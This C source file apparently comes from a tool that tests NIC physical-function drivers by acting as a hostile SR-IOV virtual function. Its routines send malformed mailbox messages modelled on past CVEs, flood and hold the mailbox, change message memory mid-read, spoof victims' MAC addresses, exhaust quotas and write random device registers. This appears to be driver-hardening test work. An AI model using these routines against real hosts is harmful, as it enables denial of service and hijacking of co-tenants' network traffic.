// SPDX-License-Identifier: GPL-2.0

#include <err.h>
#include <pthread.h>
#include <stdatomic.h>
#include <string.h>
#include <unistd.h>

#include "attacks.h"

/* Receive descriptor control of queue 0. */
#define RXDCTL0 0x2828
#define RXDCTL_ENABLE (1u << 25)

uint32_t rng_word(struct rng *r)
{
	r->state ^= r->state >> 12;
	r->state ^= r->state << 25;
	r->state ^= r->state >> 27;
	return (uint32_t)((r->state * 0x2545f4914f6cdd1dull) >> 32);
}

uint32_t rng_below(struct rng *r, uint32_t bound)
{
	return (uint32_t)(((uint64_t)rng_word(r) * bound) >> 32);
}

/*
 * Messages with a point: what broke PF drivers before. Lengths and numbers beyond their range (CVE-2025-39968 to 39973,
 * CVE-2025-22117, CVE-2024-42291), answers and unknown messages as requests, an address nobody may have, a frame
 * length that is negative as a signed number.
 */
static const uint32_t crafted[][3] = {
	{ 0, 0, 0 },
	{ MSG_RESET, 0, 0 },
	{ MSG_RESET | 0xff0000, ~0u, ~0u },
	{ MSG_RESET | MSG_ACK, 0, 0 },
	{ MSG_RESET | MSG_NACK, 0, 0 },
	{ MSG_RESET | MSG_CTS, 0, 0 },
	{ MSG_SET_MAC, 0, 0 },
	{ MSG_SET_MAC, ~0u, 0xffff },
	{ MSG_SET_MAC, 0x00005e01, 0x0100 },
	{ MSG_SET_MAC | 1 << 16, 0, 0 },
	{ MSG_SET_MAC | 2 << 16, 0, 0 },
	{ MSG_SET_MAC | 3 << 16, 0x02, 0 },
	{ MSG_SET_MAC | 0xff0000, 0x02, 0 },
	{ MSG_SET_MULTICAST | 30 << 16, ~0u, ~0u },
	{ MSG_SET_MULTICAST | 31 << 16, ~0u, ~0u },
	{ MSG_SET_MULTICAST | 0x80 << 16, ~0u, ~0u },
	{ MSG_SET_MULTICAST | 0xff0000, ~0u, ~0u },
	{ MSG_SET_VLAN | 1 << 16, 4095, 0 },
	{ MSG_SET_VLAN | 1 << 16, 4096, 0 },
	{ MSG_SET_VLAN | 1 << 16, 0x10001, 0 },
	{ MSG_SET_VLAN | 1 << 16, ~0u, 0 },
	{ MSG_SET_VLAN | 0xff0000, 1, 0 },
	{ MSG_SET_VLAN, 0, 0 },
	{ MSG_SET_LPE, 0, 0 },
	{ MSG_SET_LPE, 63, 0 },
	{ MSG_SET_LPE, 9728, 0 },
	{ MSG_SET_LPE, 0x3fff, 0 },
	{ MSG_SET_LPE, 0x10000, 0 },
	{ MSG_SET_LPE, 0x80000000, 0 },
	{ MSG_SET_LPE, ~0u, 0 },
	{ MSG_SET_PROMISC, 0, 0 },
	{ MSG_SET_PROMISC | 1 << 16, 0, 0 },
	{ MSG_SET_PROMISC | 2 << 16, 0, 0 },
	{ MSG_SET_PROMISC | 0xff0000, 0, 0 },
	{ MSG_PF_CONTROL, 0, 0 },
	{ MSG_PF_CONTROL | MSG_CTS, 0, 0 },
	{ 7, 0, 0 },
	{ 0xffff, ~0u, ~0u },
	{ ~0u, ~0u, ~0u },
};

static void put_mac(uint32_t words[WORDS], const uint8_t mac[6])
{
	memcpy(&words[1], mac, 4);
	words[2] = mac[4] | (uint32_t)mac[5] << 8;
}

static void some_mac(struct rng *r, const struct victims *v, uint32_t words[WORDS])
{
	uint8_t mac[6] = { 0x02, 0x82, 0x57, 0x66, 0, (uint8_t)rng_below(r, 20) };

	if (v->count && rng_below(r, 2))
		put_mac(words, v->mac[rng_below(r, v->count)]);
	else
		put_mac(words, mac);
}

static void proper(struct rng *r, const struct victims *v, uint32_t words[WORDS])
{
	uint32_t info = 0;

	words[0] = 1 + rng_below(r, 6);
	switch (words[0]) {
	case MSG_SET_MAC:
		info = rng_below(r, 3);
		some_mac(r, v, words);
		break;
	case MSG_SET_MULTICAST:
		info = rng_below(r, 32);
		for (int i = 1; i < WORDS; i++)
			words[i] = rng_word(r);
		break;
	case MSG_SET_VLAN:
		info = rng_below(r, 2);
		words[1] = rng_below(r, 4097);
		break;
	case MSG_SET_LPE:
		words[1] = rng_below(r, 16384);
		break;
	case MSG_SET_PROMISC:
		info = rng_below(r, 4);
		break;
	}
	words[0] |= info << 16;
}

static void compose(struct rng *r, const struct victims *v, uint32_t words[WORDS])
{
	const uint32_t *some = crafted[rng_below(r, sizeof(crafted) / sizeof(crafted[0]))];

	memset(words, 0, WORDS * sizeof(words[0]));
	switch (rng_below(r, 8)) {
	case 0:
		for (int i = 0; i < WORDS; i++)
			words[i] = rng_word(r);
		break;
	case 1:
		for (int i = 0; i < WORDS; i++)
			words[i] = rng_word(r);
		words[0] &= 0x00ff0007;
		break;
	case 2:
		proper(r, v, words);
		words[rng_below(r, 3)] ^= 1u << rng_below(r, 32);
		break;
	case 3:
	case 4:
		memcpy(words, some, sizeof(crafted[0]));
		break;
	default:
		proper(r, v, words);
	}
}

static void vf_reset(struct function *f, struct deeds *d)
{
	reg_write(f, VTCTRL, VTCTRL_RST);
	d->resets++;
}

void attack_messages(struct function *f, struct rng *r, const struct victims *v, unsigned long count, struct deeds *d)
{
	uint32_t words[WORDS], reply[WORDS];

	for (unsigned long i = 0; i < count; i++) {
		compose(r, v, words);
		mailbox_post(f, words, rng_below(r, 8) != 0, &d->tally);
		if (rng_below(r, 4) == 0)
			mailbox_reply(f, words, reply, 3000, &d->tally);
		if (rng_below(r, 2000) == 0)
			vf_reset(f, d);
	}
}

void attack_storm(struct function *f, struct rng *r, const struct victims *v, unsigned long count, struct deeds *d)
{
	uint32_t words[WORDS];

	for (unsigned long i = 0; i < count; i++) {
		compose(r, v, words);
		mailbox_post(f, words, false, &d->tally);
	}
}

void attack_resets(struct function *f, struct rng *r, unsigned long count, struct deeds *d)
{
	const uint32_t reset[WORDS] = { MSG_RESET };
	uint32_t reply[WORDS];

	for (unsigned long i = 0; i < count; i++) {
		switch (rng_below(r, 4)) {
		case 0:
			vf_reset(f, d);
			break;
		case 1:
			mailbox_post(f, reset, true, &d->tally);
			vf_reset(f, d);
			break;
		case 2:
			vf_reset(f, d);
			mailbox_post(f, reset, false, &d->tally);
			mailbox_reply(f, reset, reply, 2000, &d->tally);
			break;
		default:
			/* RSTD and RSTI are not the VF's to write. */
			reg_write(f, V2P, V2P_RSTI | V2P_RSTD | rng_word(r) % 256);
			d->writes++;
		}
	}
}

void attack_flr(struct function *f, struct rng *r, const struct victims *v, unsigned long count, struct deeds *d)
{
	for (unsigned long i = 0; i < count; i++) {
		attack_storm(f, r, v, rng_below(r, 20), d);
		function_reset(f);
		d->function_resets++;
	}
}

void attack_hold(struct function *f, struct rng *r, unsigned long count, struct deeds *d)
{
	const uint32_t reset[WORDS] = { MSG_RESET };

	for (unsigned long i = 0; i < count; i++) {
		switch (rng_below(r, 5)) {
		case 0:
			/* Ring, then keep the PF from reading. */
			mailbox_post(f, reset, true, &d->tally);
			for (int tries = 0; tries < 200; tries++)
				reg_write(f, V2P, V2P_VFU);
			break;
		case 1:
			reg_write(f, V2P, V2P_VFU | V2P_REQ);
			break;
		case 2:
			reg_write(f, V2P, V2P_ACK);
			break;
		case 3:
			/* Change what the PF reads while it does. */
			mailbox_post(f, reset, false, &d->tally);
			for (int tries = 0; tries < 50; tries++)
				reg_write(f, VMBMEM + 4 * rng_below(r, WORDS), rng_word(r));
			break;
		default:
			reg_write(f, V2P, 0);
		}
		d->writes++;
	}
	reg_write(f, V2P, 0);
}

static void write_for(struct function *f, uint32_t value, unsigned long ms, struct deeds *d)
{
	uint64_t end = now_us() + ms * 1000;

	while (now_us() < end) {
		reg_write(f, V2P, value);
		d->writes++;
	}
	reg_write(f, V2P, 0);
}

void attack_keep(struct function *f, unsigned long ms, struct deeds *d)
{
	write_for(f, V2P_VFU | V2P_REQ, ms, d);
}

void attack_bells(struct function *f, unsigned long ms, struct deeds *d)
{
	write_for(f, V2P_ACK, ms, d);
}

struct running {
	struct function *function;
	atomic_bool stop;
};

static void *keep_running(void *argument)
{
	struct running *r = argument;

	while (!r->stop)
		reg_write(r->function, RXDCTL0, RXDCTL_ENABLE);
	return NULL;
}

void attack_running(struct function *f, unsigned long ms, struct deeds *d)
{
	const uint32_t reset[WORDS] = { MSG_RESET };
	struct running r = { .function = f };
	uint64_t end = now_us() + ms * 1000;
	pthread_t thread;

	/* The ring is anywhere. */
	function_master(f, false);
	if (pthread_create(&thread, NULL, keep_running, &r))
		errx(2, "no thread");
	while (now_us() < end) {
		mailbox_post(f, reset, false, &d->tally);
		usleep(5000);
	}
	r.stop = true;
	pthread_join(thread, NULL);
	function_reset(f);
	d->function_resets++;
}

void attack_quota(struct function *f, const struct victims *v, struct deeds *d)
{
	uint32_t words[WORDS], reply[WORDS];
	uint8_t mac[6] = { 0x02, 0x82, 0x57, 0x67 };

	mailbox_ask(f, MSG_RESET, 0, 0, reply, &d->tally);
	/* Each waited for, so that a PF that counts messages hears them all. */
	for (uint32_t i = 0; i < 40; i++)
		mailbox_ask(f, MSG_SET_VLAN | 1 << 16, 100 + i, 0, reply, &d->tally);
	for (uint32_t i = 0; i < 30; i++) {
		memset(words, 0, sizeof(words));
		mac[5] = (uint8_t)i;
		put_mac(words, i < v->count ? v->mac[i] : mac);
		mailbox_ask(f, MSG_SET_MAC | 2 << 16, words[1], words[2], reply, &d->tally);
	}
	for (uint32_t i = 0; i < v->count; i++) {
		put_mac(words, v->mac[i]);
		mailbox_ask(f, MSG_SET_MAC, words[1], words[2], reply, &d->tally);
	}
	mailbox_ask(f, MSG_SET_PROMISC | 2 << 16, 0, 0, reply, &d->tally);
	mailbox_ask(f, MSG_SET_PROMISC | 1 << 16, 0, 0, reply, &d->tally);
	mailbox_ask(f, MSG_SET_MULTICAST | 0xff0000, 0, 0, reply, &d->tally);
}

void attack_registers(struct function *f, struct rng *r, unsigned long count, struct deeds *d)
{
	function_master(f, false);
	for (unsigned long i = 0; i < count; i++) {
		unsigned int offset = 4 * rng_below(r, (uint32_t)f->bar_size / 4);

		if (rng_below(r, 8))
			reg_write(f, offset, rng_below(r, 2) ? rng_word(r) : 1u << rng_below(r, 32));
		else
			reg_read(f, offset);
		d->writes++;
	}
	function_reset(f);
	d->function_resets++;
}
